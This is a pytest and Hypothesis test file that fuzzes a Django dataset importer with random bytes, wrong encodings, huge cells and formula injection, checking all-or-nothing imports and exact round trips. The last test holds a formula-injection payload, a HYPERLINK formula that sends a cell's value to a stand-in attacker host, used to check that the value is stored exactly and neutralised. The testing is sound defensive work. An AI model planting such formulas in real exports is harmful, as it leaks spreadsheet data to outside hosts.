"""Hostile input to the importer: random bytes, wrong encodings, huge cells, formula injection.
It never crashes and never half-writes: either every row goes in, or nothing does and each problem
names its file, line and field."""
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engagement.models import Attendance, Meeting
from entities.models import Entity
from interchange.services import dataset_import
from relationships.models import Disclosure, Relationship

pytestmark = pytest.mark.django_db
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
LAKESIDE_FILES = ["entities.csv", "relationships.csv", "meetings.csv", "attendance.csv", "disclosures.csv"]


def stored_counts() -> tuple:
    return tuple(m.objects.count() for m in (Entity, Relationship, Meeting, Attendance, Disclosure))


def lakeside_files(lakeside_dir: Path) -> dict[str, bytes]:
    return {name: (lakeside_dir / "data" / name).read_bytes() for name in LAKESIDE_FILES}


def assert_all_or_nothing(files, before):
    result = dataset_import(files=files)  # must not raise
    if result.ok:
        assert stored_counts() != before or all(c.created == 0 for c in result.counts.values())
    else:
        assert stored_counts() == before, "a rejected import wrote something"
        for problem in result.problems:
            assert problem.file and str(problem).startswith(problem.file), problem
    return result


@FUZZ
@given(name=st.sampled_from(LAKESIDE_FILES), junk=st.binary(max_size=400))
def test_random_bytes_in_any_file(lakeside_dir, name, junk):
    files = lakeside_files(lakeside_dir)
    files[name] = junk
    assert_all_or_nothing(files, stored_counts())


@FUZZ
@given(name=st.sampled_from(LAKESIDE_FILES), position=st.integers(0, 5000), insert=st.binary(min_size=1, max_size=20))
def test_bytes_spliced_into_a_valid_file(lakeside_dir, name, position, insert):
    files = lakeside_files(lakeside_dir)
    data = files[name]
    cut = position % (len(data) + 1)
    files[name] = data[:cut] + insert + data[cut:]
    assert_all_or_nothing(files, stored_counts())


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1", "cp1252"])
def test_wrong_encodings_are_named(lakeside_dir, encoding):
    files = lakeside_files(lakeside_dir)
    files["entities.csv"] = files["entities.csv"].decode("utf-8").replace("Lakeside", "Lakesíde").encode(encoding)
    result = assert_all_or_nothing(files, stored_counts())
    assert not result.ok and any(p.file == "entities.csv" for p in result.problems)


def test_a_huge_cell_is_refused_with_its_field(lakeside_dir):
    files = lakeside_files(lakeside_dir)
    lines = files["entities.csv"].decode().splitlines()
    fields = lines[1].split(",")
    fields[1] = "x" * 2_000_000
    lines[1] = ",".join(fields)
    files["entities.csv"] = ("\n".join(lines) + "\n").encode()
    result = assert_all_or_nothing(files, stored_counts())
    assert not result.ok
    assert any(p.file == "entities.csv" and p.line == 2 for p in result.problems)


def test_formula_injection_is_stored_exactly_and_exported_exactly(lakeside_dir, tmp_path):
    """The interchange stays exact (round trips); spreadsheet downloads neutralise (core/spreadsheet.py)."""
    from core.spreadsheet import spreadsheet_safe
    from interchange.export import dataset_export_files

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    files = lakeside_files(lakeside_dir)
    text = files["entities.csv"].decode()
    files["entities.csv"] = text.replace("Lakeside Police Department,", f'"{formula.replace(chr(34), chr(34) * 2)}",', 1).encode()
    assert dataset_import(files=files).ok
    assert Entity.objects.get(external_id="lk-pd").name == formula
    assert formula.replace('"', '""') in dataset_export_files()["entities.csv"]
    assert spreadsheet_safe(formula) == "'" + formula
